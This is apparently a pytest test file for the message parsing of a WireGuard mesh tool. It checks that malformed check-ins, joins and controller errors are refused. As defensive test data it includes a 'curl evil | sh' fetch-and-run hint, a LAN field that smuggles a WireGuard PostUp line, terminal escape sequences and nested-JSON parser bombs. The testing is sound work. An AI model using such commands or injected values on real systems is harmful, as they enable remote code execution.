from __future__ import annotations

import base64
import contextlib
import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nmk.core.check_in_health import LONGEST_TOLD
from nmk.core.records import Facts
from nmk.core.text import plain
from nmk.core.traffic import LONGEST, LONGEST_OF_CLIENTS
from nmk.errors import BadInput, BadReply, KeyExpired, NmkError, NodeDeleted, all_errors
from nmk.wire.messages import (
    SEALED_ERRORS,
    CheckIn,
    encode_check_in,
    encode_error,
    encode_join,
    parse_check_in,
    parse_error,
    parse_facts,
    parse_join,
    parse_reply,
)
from tests.core.made import identity, key32, made_facts, made_request

RAW_IDENTITY = base64.b64decode(identity(1))

facts = st.builds(
    Facts,
    wg_key=st.integers(1, 9).map(key32),
    listen_port=st.integers(1, 65535),
    lan=st.lists(st.sampled_from(["192.168.1.7/24", "fd00::7/64"]), max_size=4).map(tuple),
    interval=st.integers(5, 86400),
    endpoint=st.sampled_from([None, "198.51.100.7:51821", "[2001:db8::7]:1"]),
)
said = st.text(max_size=20)
check_ins = st.builds(
    CheckIn, st.integers(0, 2**53), said, st.integers(0, 2**53), facts, said, said, health=said
) | st.builds(CheckIn, st.integers(0, 2**53), said, traffic=said, callers=said)


@given(check_ins)
def test_a_check_in_arrives_as_it_was_sent(message: CheckIn) -> None:
    assert parse_check_in(encode_check_in(message)) == message


def test_what_is_not_said_is_not_sent() -> None:
    assert json.loads(encode_check_in(CheckIn(1, "c"))) == {"at": [1, "c"]}


@pytest.mark.parametrize(
    ("field", "longest"),
    [("traffic", LONGEST), ("callers", LONGEST_OF_CLIENTS), ("health", LONGEST_TOLD)],
)
@pytest.mark.parametrize("more", [{}, {"seq": 1, "facts": "those of n1"}])
def test_a_summary_is_a_text_and_not_too_long(
    field: str, longest: int, more: dict[str, Any]
) -> None:
    if more:
        more = {**more, "facts": facts_with()}
    body = {"at": [1, "c"], **more}
    found = parse_check_in(json.dumps({**body, field: "x" * longest}).encode())
    assert getattr(found, field) == "x" * longest
    for value in ("x" * (longest + 1), None, 5, ["x"], {"x": 1}, True):
        with pytest.raises(BadInput, match="cannot be the"):
            parse_check_in(json.dumps({**body, field: value}).encode())


PRINTABLE = st.text(max_size=60).map(plain)


@given(facts, st.none() | PRINTABLE, st.text(max_size=60), st.binary(max_size=60))
def test_a_join_arrives_as_it_was_sent(
    machine: Facts, name: str | None, host: str, secret: bytes
) -> None:
    request = made_request(1, facts=machine, name=name, host_name=host, secret=secret)
    parsed = parse_join(encode_join(request), RAW_IDENTITY)
    assert parsed == replace(request, host_name=plain(host))


def facts_with(**changes: object) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(encode_join(made_request(1)))["facts"]
    return {**body, **changes}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("wg_key", "short"),
        ("wg_key", None),
        ("wg_key", base64.b64encode(bytes(32)).decode()),
        ("listen_port", 0),
        ("listen_port", "51821"),
        ("listen_port", True),
        ("listen_port", 1.5),
        ("lan", None),
        ("lan", "192.168.1.7/24"),
        ("lan", ["nonsense"]),
        ("lan", [5]),
        ("lan", ["fe80::1%eth0/64"]),
        ("lan", ["fe80::1%\nPostUp = x/64"]),
        ("lan", ["10.0.0.1/8"] * 65),
        ("interval", 4),
        ("interval", None),
        ("endpoint", "host:80"),
        ("endpoint", 5),
        ("instance", "x" * 256),
        ("instance", "\U0001f600"),
    ],
)
def test_facts_that_cannot_be_are_refused(field: str, value: object) -> None:
    assert parse_facts(facts_with()) == made_facts(1)
    with pytest.raises(BadInput):
        parse_facts(facts_with(**{field: value}))


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"null",
        b"[]",
        b"{}",
        b"\xff",
        b'{"at":5}',
        b'{"at":[1]}',
        b'{"at":[1,2]}',
        b'{"at":["1","x"]}',
        b'{"at":[-1,"x"]}',
        b'{"at":[true,"x"]}',
        b'{"at":[1e3,"x"]}',
        b'{"at":[NaN,"x"]}',
        b'{"at":[1' + b"0" * 5000 + b',"x"]}',
        b'{"at":[1,"x"],"facts":null}',
        b'{"at":[1,"x"],"facts":{}}',
        b"[" * 100_000,
        b'{"a":' * 50_000,
    ],
)
def test_what_is_no_check_in_is_refused(body: bytes) -> None:
    with pytest.raises(BadInput):
        parse_check_in(body)
    with pytest.raises(BadInput):
        parse_join(body, RAW_IDENTITY)


@given(st.binary(max_size=300), st.data())
def test_random_bytes_raise_nothing_else(body: bytes, data: st.DataObject) -> None:
    good = encode_check_in(CheckIn(1, "c", 2, made_facts(1)))
    place = data.draw(st.integers(0, len(good) - 1))
    for message in (body, good[:place] + body[:3] + good[place + 1 :]):
        for parse in (parse_check_in, parse_reply, parse_error):
            with contextlib.suppress(NmkError):
                parse(message)
        with contextlib.suppress(NmkError):
            parse_join(message, RAW_IDENTITY)


@pytest.mark.parametrize("cls", all_errors().values(), ids=lambda c: c.code)
def test_only_what_a_controller_may_report_arrives_as_what_it_was(cls: type[NmkError]) -> None:
    body = encode_error(cls("this is wrong", "do that"), seq=7)
    if cls.code not in SEALED_ERRORS:
        with pytest.raises(BadReply, match=f"reports '{cls.code}'.*: this is wrong"):
            parse_error(body)
        return
    error, data = parse_error(body)
    assert type(error) is cls
    assert (error.message, data["seq"]) == ("this is wrong", 7)


def test_a_hint_is_never_the_controllers() -> None:
    for cls, hint in SEALED_ERRORS.values():
        error, _ = parse_error(encode_error(cls("this is wrong", "curl evil | sh")))
        assert error.hint == hint


def test_no_controller_steers_when_an_agent_tries_again() -> None:
    """What ends with 75 is waited for: these few, none of them the lock of the machine itself."""
    temporary = {code for code, (cls, _) in SEALED_ERRORS.items() if cls.exit_code == 75}
    assert temporary == {"rate-limited", "store-unavailable"}


def test_an_error_of_a_later_version_keeps_what_it_says() -> None:
    with pytest.raises(BadReply, match="'from-the-future', which is no error of a controller: m"):
        parse_error(b'{"error":"from-the-future","message":"m","hint":"h"}')


def test_an_error_cannot_draw_on_the_terminal() -> None:
    message = "a\x1b[2Jb\r\nc" + "x" * 999
    error, _ = parse_error(encode_error(NodeDeleted(message, "\x1b]0;x\7")))
    assert error.message.isprintable()
    assert error.hint.isprintable()
    assert len(error.message) < 300


@pytest.mark.parametrize("body", [b"", b"[]", b"{}", b'{"error":5}', b'{"error":null}'])
def test_an_error_that_makes_no_sense_is_a_bad_reply(body: bytes) -> None:
    with pytest.raises(BadReply):
        parse_error(body)


def test_an_error_tells_its_code() -> None:
    assert json.loads(encode_error(KeyExpired("m")))["error"] == "key-expired"
